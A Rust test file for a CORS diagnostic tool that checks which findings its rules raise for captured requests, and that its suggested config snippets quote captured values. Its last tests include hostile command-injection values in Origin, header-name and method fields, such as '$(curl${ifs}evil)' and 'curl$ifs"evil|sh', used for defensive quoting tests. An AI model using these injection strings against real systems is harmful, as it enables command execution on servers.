//! Rule-level tests: each builds a small capture and checks the ids `check` produces.

use super::*;
use crate::correlate::Correlation;
use crate::fetch::CorsFailure;
use crate::finding::Signal;
use crate::model::{Capture, CorsErrorStatus, Header};
use std::borrow::Cow;

fn ex(
    method: &'static str,
    url: &'static str,
    status: u16,
    req: &[(&'static str, &'static str)],
    res: &[(&'static str, &'static str)],
) -> Exchange<'static> {
    Exchange {
        method: Cow::Borrowed(method),
        url: Cow::Borrowed(url),
        status,
        request_headers: Headers(req.iter().map(|(n, v)| Header::new(n, v)).collect()),
        response_headers: Headers(res.iter().map(|(n, v)| Header::new(n, v)).collect()),
        page_url: Some(Cow::Borrowed("https://app.example.com/dashboard")),
        resource_type: Some(Cow::Borrowed(if method == "OPTIONS" { "preflight" } else { "fetch" })),
        ..Default::default()
    }
}

/// The popup's CORS picture of exchange `i`.
fn picture(cap: &Capture<'_>, i: usize) -> Option<CorsFacts> {
    let corr = Correlation::build(cap);
    let ctx = Ctx::new(cap, &corr, i, &cap.exchanges[i]);
    Facts::build(&ctx).map(|f| f.picture(&ctx))
}

fn ids(cap: &Capture<'_>, i: usize) -> Vec<FindingId> {
    let corr = Correlation::build(cap);
    let ctx = Ctx::new(cap, &corr, i, &cap.exchanges[i]);
    let mut out = Vec::new();
    check(&ctx, Facts::build(&ctx).as_ref(), &mut out);
    out.iter().map(|f| f.id).collect()
}

const ORIGIN: (&str, &str) = ("Origin", "https://app.example.com");
const MODE: (&str, &str) = ("Sec-Fetch-Mode", "cors");

#[test]
fn healthy_credentialed_exchange_is_silent() {
    let cap = Capture {
        exchanges: vec![
            ex(
                "OPTIONS",
                "https://api.example.net/v1/me",
                204,
                &[
                    ORIGIN,
                    ("Access-Control-Request-Method", "GET"),
                    ("Access-Control-Request-Headers", "authorization"),
                ],
                &[
                    ("Access-Control-Allow-Origin", "https://app.example.com"),
                    ("Access-Control-Allow-Credentials", "true"),
                    ("Access-Control-Allow-Headers", "Authorization, Content-Type"),
                    ("Access-Control-Allow-Methods", "GET, POST"),
                    ("Vary", "Origin"),
                ],
            ),
            ex(
                "GET",
                "https://api.example.net/v1/me",
                200,
                &[ORIGIN, MODE, ("Authorization", "Bearer abc.def.ghi"), ("Cookie", "sid=1")],
                &[
                    ("Access-Control-Allow-Origin", "https://app.example.com"),
                    ("Access-Control-Allow-Credentials", "true"),
                    ("Vary", "Origin"),
                    ("Cache-Control", "private, max-age=60"),
                ],
            ),
        ],
        ..Default::default()
    };
    assert_eq!(ids(&cap, 0), []);
    assert_eq!(ids(&cap, 1), []);
}

#[test]
fn reported_header_disallowed_maps_to_authorization() {
    let mut main = ex("GET", "https://api.example.net/v1/me", 0, &[ORIGIN, MODE, ("Authorization", "Bearer x")], &[]);
    main.cors_error = Some(CorsErrorStatus {
        cors_error: Cow::Borrowed("HeaderDisallowedByPreflightResponse"),
        failed_parameter: Cow::Borrowed("authorization"),
    });
    let cap = Capture { exchanges: vec![main], ..Default::default() };
    assert_eq!(ids(&cap, 0), [FindingId::CorsAuthorizationNotAllowed]);
}

#[test]
fn missing_acao_on_401_is_the_mask_only() {
    let cap = Capture {
        exchanges: vec![ex(
            "GET",
            "https://api.example.net/v1/me",
            401,
            &[ORIGIN, MODE],
            &[("WWW-Authenticate", "Bearer error=\"invalid_token\"")],
        )],
        ..Default::default()
    };
    let got = ids(&cap, 0);
    assert!(got.contains(&FindingId::CorsErrorMasks401), "{got:?}");
    assert!(!got.contains(&FindingId::CorsAllowOriginMissing), "{got:?}");
}

#[test]
fn same_origin_has_no_cors_picture() {
    let cap = Capture {
        exchanges: vec![ex(
            "GET",
            "https://app.example.com/api/me",
            401,
            &[MODE, ("Sec-Fetch-Site", "same-origin")],
            &[],
        )],
        ..Default::default()
    };
    assert!(picture(&cap, 0).is_none());
    assert_eq!(ids(&cap, 0), []);
}

#[test]
fn exempt_responses_are_not_cors_checked() {
    // A 304 revalidation without ACAO (the stored headers count), and an extension's own fetch.
    let cap = Capture {
        exchanges: vec![
            ex("GET", "https://api.example.net/v1/me", 304, &[ORIGIN, MODE], &[("ETag", "\"x\"")]),
            ex(
                "GET",
                "https://api.example.net/v1/me",
                200,
                &[("Origin", "chrome-extension://abcdef"), MODE],
                &[("Content-Type", "application/json")],
            ),
        ],
        ..Default::default()
    };
    assert_eq!(ids(&cap, 0), []);
    assert_eq!(ids(&cap, 1), []);
}

#[test]
fn followed_redirect_passed_the_check() {
    let mut hop = ex(
        "GET",
        "https://api.example.net/v1/me",
        302,
        &[ORIGIN, MODE],
        &[("Location", "https://api.example.net/v2/me")],
    );
    hop.redirect_url = Some(Cow::Borrowed("https://api.example.net/v2/me"));
    let done =
        ex("GET", "https://api.example.net/v2/me", 200, &[ORIGIN, MODE], &[("Access-Control-Allow-Origin", "*")]);
    let cap = Capture { exchanges: vec![hop, done], ..Default::default() };
    assert_eq!(ids(&cap, 0), []);
    assert_eq!(ids(&cap, 1), []);
}

#[test]
fn picture_holds_the_failed_check() {
    let cap = Capture {
        exchanges: vec![ex(
            "GET",
            "https://api.example.net/v1/me",
            200,
            &[ORIGIN, MODE, ("Cookie", "sid=1")],
            &[("Access-Control-Allow-Origin", "*")],
        )],
        ..Default::default()
    };
    let v = picture(&cap, 0).unwrap();
    assert_eq!(v.page_origin.as_deref(), Some("https://app.example.com"));
    assert_eq!(v.request_origin.as_deref(), Some("https://app.example.com"));
    assert_eq!(v.credentials, CredBasis::CookieSent);
    assert_eq!(v.failed, Some(FailedCheck::Response(CorsFailure::WildcardWithCredentials)));
    assert_eq!(v.response_headers.len(), 1);
}

#[test]
fn inferred_include_from_failure() {
    // No cookie visible, but the browser blocked a response that fails only with credentials.
    let mut main = ex(
        "GET",
        "https://api.example.net/v1/me",
        200,
        &[ORIGIN, MODE],
        &[("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Credentials", "true")],
    );
    main.error = Some(Cow::Borrowed("net::ERR_FAILED"));
    let cap = Capture { exchanges: vec![main.clone()], ..Default::default() };
    assert_eq!(ids(&cap, 0), [FindingId::CorsWildcardWithCredentials]);
    // Not blocked: works without credentials, warned as predictive.
    main.error = None;
    let cap = Capture { exchanges: vec![main], ..Default::default() };
    let corr = Correlation::build(&cap);
    let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
    let mut out = Vec::new();
    check(&ctx, Facts::build(&ctx).as_ref(), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!((out[0].id, out[0].signal), (FindingId::CorsWildcardWithCredentials, Signal::Predictive));
}

#[test]
fn hostile_input_does_not_panic() {
    let junk = "\u{0}\u{7f}é,,\n\n*\"";
    let mut e = ex(
        "OPTIONS",
        "not a url",
        0,
        &[("Origin", junk), ("Access-Control-Request-Method", junk), ("Access-Control-Request-Headers", junk)],
        &[("Access-Control-Allow-Origin", junk), ("Cache-Control", junk), ("Age", junk), ("Vary", junk)],
    );
    e.cors_error = Some(CorsErrorStatus { cors_error: Cow::Borrowed(junk), failed_parameter: Cow::Borrowed(junk) });
    let cap = Capture { exchanges: vec![e.clone(), Exchange { method: Cow::Borrowed(""), ..e }], ..Default::default() };
    for i in 0..2 {
        let _ = ids(&cap, i);
        let _ = picture(&cap, i);
    }
}

/// A preflight granting `max_age` for PUT, the PUT it was for (100 ms later, fine), and a second
/// PUT `later_ms` after the preflight that fails with `later_res`, without a new preflight.
fn preflight_then_put(
    max_age: &'static str,
    later_ms: f64,
    later_res: &[(&'static str, &'static str)],
) -> Vec<Exchange<'static>> {
    let t0 = 1_790_000_000_000.0;
    let mut pre = ex(
        "OPTIONS",
        "https://api.example.net/v1/me",
        204,
        &[ORIGIN, ("Access-Control-Request-Method", "PUT")],
        &[
            ("Access-Control-Allow-Origin", "https://app.example.com"),
            ("Access-Control-Allow-Methods", "PUT"),
            ("Access-Control-Max-Age", max_age),
        ],
    );
    pre.started_ms = Some(t0);
    let mut first = ex(
        "PUT",
        "https://api.example.net/v1/me",
        200,
        &[ORIGIN, MODE],
        &[("Access-Control-Allow-Origin", "https://app.example.com")],
    );
    first.started_ms = Some(t0 + 100.0);
    let mut later = ex("PUT", "https://api.example.net/v1/me", 500, &[ORIGIN, MODE], later_res);
    later.started_ms = Some(t0 + later_ms);
    later.error = Some(Cow::Borrowed("net::ERR_FAILED"));
    vec![pre, first, later]
}

#[test]
fn cached_preflight_is_named() {
    let exchanges = preflight_then_put("7200", 600_000.0, &[("Content-Type", "text/html")]);
    let cap = Capture { exchanges, ..Default::default() };
    let got = ids(&cap, 2);
    assert!(got.contains(&FindingId::CorsPreflightCacheStale), "{got:?}");
    assert!(got.contains(&FindingId::CorsAllowOriginMissing), "{got:?}");
    assert!(!ids(&cap, 1).contains(&FindingId::CorsPreflightCacheStale));
}

#[test]
fn cached_preflight_respects_the_browsers_cap() {
    use crate::model::Browser;
    // A preflight that asked for 24 h, and a failing PUT some time later without a new preflight.
    let cases: &[(&str, Browser, f64, bool)] = &[
        ("chromium, 3 h: past its 2 h cap", Browser::Chromium, 3.0 * 3_600_000.0, false),
        ("chromium, 90 min", Browser::Chromium, 90.0 * 60_000.0, true),
        ("firefox, 3 h: within 24 h", Browser::Firefox, 3.0 * 3_600_000.0, true),
        ("safari, 20 min: past its 10 min cap", Browser::Safari, 20.0 * 60_000.0, false),
    ];
    for (name, browser, later_ms, want) in cases {
        let cap =
            Capture { exchanges: preflight_then_put("86400", *later_ms, &[]), browser: *browser, ..Default::default() };
        assert_eq!(ids(&cap, 2).contains(&FindingId::CorsPreflightCacheStale), *want, "{name}");
    }
}

#[test]
fn sec_fetch_site_same_origin_wins_over_a_missing_referer() {
    // A same-origin fetch from an iframe with no Referer: the page URL differs, the browser says same-origin.
    let mut e = ex(
        "GET",
        "https://widgets.example.org/api/me",
        200,
        &[MODE, ("Sec-Fetch-Site", "same-origin")],
        &[("Content-Type", "application/json")],
    );
    e.initiator = None;
    let cap = Capture { exchanges: vec![e], ..Default::default() };
    assert_eq!(ids(&cap, 0), []);
}

#[test]
fn a_sent_request_proves_its_preflight_passed() {
    // The preflight as captured lacks Allow-Methods, yet the PUT went out and was answered.
    let cap = Capture {
        exchanges: vec![
            ex(
                "OPTIONS",
                "https://api.example.net/v1/me",
                204,
                &[ORIGIN, ("Access-Control-Request-Method", "PUT")],
                &[("Access-Control-Allow-Origin", "https://app.example.com")],
            ),
            ex(
                "PUT",
                "https://api.example.net/v1/me",
                200,
                &[ORIGIN, MODE],
                &[("Access-Control-Allow-Origin", "https://app.example.com")],
            ),
        ],
        ..Default::default()
    };
    assert_eq!(ids(&cap, 1), []);
}

#[test]
fn no_cors_without_fetch_metadata_is_not_judged_on_success() {
    // http capture without Sec-Fetch-*: a 200 without ACAO may be a no-cors request.
    let mut e = ex("POST", "http://api.example.net/beacon", 200, &[ORIGIN], &[("Content-Type", "text/plain")]);
    e.page_url = Some(Cow::Borrowed("http://app.example.com/"));
    e.initiator = Some(Cow::Borrowed("http://app.example.com"));
    let cap = Capture { exchanges: vec![e.clone()], ..Default::default() };
    assert_eq!(ids(&cap, 0), []);
    // The same without a response the page could use: blocked → judged.
    e.error = Some(Cow::Borrowed("net::ERR_FAILED"));
    let cap = Capture { exchanges: vec![e], ..Default::default() };
    assert_eq!(ids(&cap, 0), [FindingId::CorsAllowOriginMissing]);
}

#[test]
fn wants_table() {
    let cases: &[(&str, Exchange<'static>, bool)] = &[
        (
            "preflight 204",
            ex("OPTIONS", "https://api.example.net/x", 204, &[("Access-Control-Request-Method", "PUT")], &[]),
            true,
        ),
        (
            "cross-origin 200 with Origin",
            ex("GET", "https://api.example.net/x", 200, &[ORIGIN], &[("Content-Type", "application/json")]),
            true,
        ),
        (
            "cookie over http",
            ex("GET", "http://api.example.net/x", 200, &[("Cookie", "sid=1")], &[("Content-Type", "text/html")]),
            true,
        ),
        ("plain 200", ex("GET", "https://api.example.net/x", 200, &[], &[("Content-Type", "application/json")]), false),
        ("304 revalidation", ex("GET", "https://api.example.net/x", 304, &[ORIGIN], &[("ETag", "\"1\"")]), false),
    ];
    for (name, e, want) in cases {
        assert_eq!(wants(e) || crate::diagnose::transport::wants(e), *want, "{name}");
    }
}

// ─────────────── capture values in snippets stay quoted (issue 8 item 1) ───────────────

/// The findings of exchange `i` (unranked, as `check` pushes them).
fn findings(cap: &Capture<'_>, i: usize) -> Vec<Finding> {
    let corr = Correlation::build(cap);
    let ctx = Ctx::new(cap, &corr, i, &cap.exchanges[i]);
    let mut out = Vec::new();
    check(&ctx, Facts::build(&ctx).as_ref(), &mut out);
    out
}

/// The snippet in `lang` of the finding `id` among `found`.
fn snippet(found: &[Finding], id: FindingId, lang: &str) -> String {
    let f = found.iter().find(|f| f.id == id).unwrap_or_else(|| panic!("no {id:?} in {found:?}"));
    f.fix
        .snippets
        .iter()
        .find(|s| s.lang == lang)
        .map(|s| s.code.clone())
        .unwrap_or_else(|| panic!("no {lang} snippet"))
}

/// A serialized origin (WHATWG hosts may hold `'`, `"`, `$`, `(`, `{`) that would run a command
/// if pasted raw into a shell-like or interpolating context.
const HOSTILE_ORIGIN: &str = "https://a'$(curl${ifs}evil)\"x.example";

#[test]
fn hostile_origin_is_quoted_in_every_snippet() {
    assert!(matches!(
        hc::request_origin(&Headers(vec![Header::new("Origin", HOSTILE_ORIGIN)])),
        hc::RequestOrigin::Origin(_)
    ));
    let cap = Capture {
        exchanges: vec![ex(
            "GET",
            "https://api.example.net/v1/me",
            200,
            &[("Origin", HOSTILE_ORIGIN), MODE, ("Cookie", "sid=1")],
            &[("Access-Control-Allow-Origin", "https://other.example"), ("Access-Control-Allow-Credentials", "true")],
        )],
        ..Default::default()
    };
    let found = findings(&cap, 0);
    let id = FindingId::CorsAllowOriginMismatch;
    let js = crate::quote::c_string(HOSTILE_ORIGIN);
    assert!(snippet(&found, id, "express").contains(&format!("origin: [{js}]")));
    assert!(snippet(&found, id, "aspnet").contains(&format!(".WithOrigins({js})")));
    assert!(snippet(&found, id, "spring").contains(&format!("List.of({js})")));
    // nginx cannot quote `$`: the placeholder stands in.
    let nginx = snippet(&found, id, "nginx");
    assert!(nginx.contains("default \"\"; <origin> $http_origin;") && !nginx.contains("evil"), "{nginx}");
    // Apache: the regex's `"` escaped, its backslashes doubled.
    let apache = snippet(&found, id, "apache");
    assert!(
        apache.contains(
            "SetEnvIf Origin \"^https://a'\\\\$\\\\(curl\\\\$\\\\{ifs\\\\}evil\\\\)\\\"x\\\\.example$\" CORS_ORIGIN"
        ),
        "{apache}"
    );
    // API Gateway literals have no escape.
    let yaml = snippet(&found, id, "yaml");
    assert!(yaml.contains("Access-Control-Allow-Origin: \"'<origin>'\"") && !yaml.contains("evil"), "{yaml}");
}

#[test]
fn plain_origin_keeps_the_templates_quote_style() {
    let cap = Capture {
        exchanges: vec![ex(
            "GET",
            "https://api.example.net/v1/me",
            200,
            &[ORIGIN, MODE, ("Cookie", "sid=1")],
            &[("Access-Control-Allow-Origin", "https://other.example"), ("Access-Control-Allow-Credentials", "true")],
        )],
        ..Default::default()
    };
    let found = findings(&cap, 0);
    let id = FindingId::CorsAllowOriginMismatch;
    assert!(snippet(&found, id, "express").contains("origin: ['https://app.example.com']"));
    assert!(snippet(&found, id, "nginx").contains("\"https://app.example.com\" $http_origin;"));
    assert!(snippet(&found, id, "apache").contains("SetEnvIf Origin \"^https://app\\.example\\.com$\""));
    assert!(snippet(&found, id, "yaml").contains("\"'https://app.example.com'\""));
}

/// A preflight from `ORIGIN` asking for `method` and `headers`, refused by its allow-lists.
fn refused_preflight(method: &'static str, headers: &'static str) -> Capture<'static> {
    Capture {
        exchanges: vec![ex(
            "OPTIONS",
            "https://api.example.net/v1/me",
            204,
            &[ORIGIN, ("Access-Control-Request-Method", method), ("Access-Control-Request-Headers", headers)],
            &[
                ("Access-Control-Allow-Origin", "https://app.example.com"),
                ("Access-Control-Allow-Methods", "GET, POST, PUT"),
                ("Access-Control-Allow-Headers", "Authorization, Content-Type"),
            ],
        )],
        ..Default::default()
    }
}

#[test]
fn hostile_header_name_is_quoted_in_every_snippet() {
    let cap = refused_preflight("PUT", "x-a';curl$ifs\"evil|sh, x-b\u{7}c");
    let found = findings(&cap, 0);
    let id = FindingId::CorsRequestHeaderNotAllowed;
    let name = crate::quote::c_string("X-A';curl$ifs\"evil|sh");
    assert!(
        snippet(&found, id, "express").contains(&format!("allowedHeaders: ['Authorization', 'Content-Type', {name}"))
    );
    assert!(snippet(&found, id, "aspnet").contains(&format!("\"Content-Type\", {name}")));
    assert!(snippet(&found, id, "spring").contains(&name));
    assert_eq!(snippet(&found, id, "nginx"), "add_header Access-Control-Allow-Headers <header names> always;");
    // A control character has no place in a header line: that name becomes a placeholder.
    let http = snippet(&found, id, "http");
    assert!(!http.contains('\n') && http.ends_with(", <header name>"), "{http:?}");
}

#[test]
fn hostile_method_is_quoted_in_every_snippet() {
    let cap = refused_preflight("PATCH'$x\"", "authorization");
    let found = findings(&cap, 0);
    let id = FindingId::CorsMethodNotAllowed;
    let m = crate::quote::c_string("PATCH'$x\"");
    assert!(snippet(&found, id, "express").contains(&format!("methods: ['GET', 'POST', {m}]")));
    assert!(snippet(&found, id, "aspnet").contains(&format!("p.WithMethods(\"GET\", \"POST\", {m});")));
    assert_eq!(snippet(&found, id, "nginx"), "add_header Access-Control-Allow-Methods <methods> always;");
    assert_eq!(snippet(&found, id, "http"), "Access-Control-Allow-Methods: GET, POST, PATCH'$x\"");
}

#[test]
fn hostile_values_in_the_preflight_before_auth_snippets() {
    let cap = Capture {
        exchanges: vec![ex(
            "OPTIONS",
            "https://api.example.net/v1/me",
            401,
            &[
                ("Origin", HOSTILE_ORIGIN),
                ("Access-Control-Request-Method", "PUT\"; evil"),
                ("Access-Control-Request-Headers", "authorization"),
            ],
            &[("WWW-Authenticate", "Basic realm=\"api\"")],
        )],
        ..Default::default()
    };
    let found = findings(&cap, 0);
    let id = FindingId::CorsPreflightBlockedByAuth;
    let nginx = snippet(&found, id, "nginx");
    assert!(nginx.contains("<origin> $http_origin;"), "{nginx}");
    assert!(nginx.contains("Access-Control-Allow-Methods \"GET, POST, PUT\\\"; evil\" always;"), "{nginx}");
    let express = snippet(&found, id, "express");
    assert!(express.contains(&format!("origin: [{}]", crate::quote::c_string(HOSTILE_ORIGIN))), "{express}");
}
